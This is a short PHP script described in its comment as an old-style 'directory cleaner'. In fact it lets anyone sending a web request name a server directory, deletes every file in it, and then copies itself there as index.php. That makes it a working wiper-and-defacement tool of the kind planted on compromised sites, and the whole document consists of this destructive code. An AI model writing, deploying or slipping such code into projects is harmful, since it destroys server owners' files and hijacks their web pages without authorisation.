<?php
// A PHP 4-era directory cleaner: register_globals emulated over a list of names, then the
// directory given a default when absent and its slashes normalised, as such tools did before
// listing it, emptying it and leaving a page of their own in it.
foreach (array('d', 'go') as $name) {
    if (isset($HTTP_POST_VARS[$name])) $$name = $HTTP_POST_VARS[$name];
    elseif (isset($HTTP_GET_VARS[$name])) $$name = $HTTP_GET_VARS[$name];
}
if (!isset($d)) $d = '';
if ($d == '') $d = getcwd();
$d = str_replace('\\', '/', $d);
if ($go) {
    foreach (scandir($d) as $entry) if (is_file($d . '/' . $entry)) unlink($d . '/' . $entry);
    copy(__FILE__, $d . '/index.php');
}
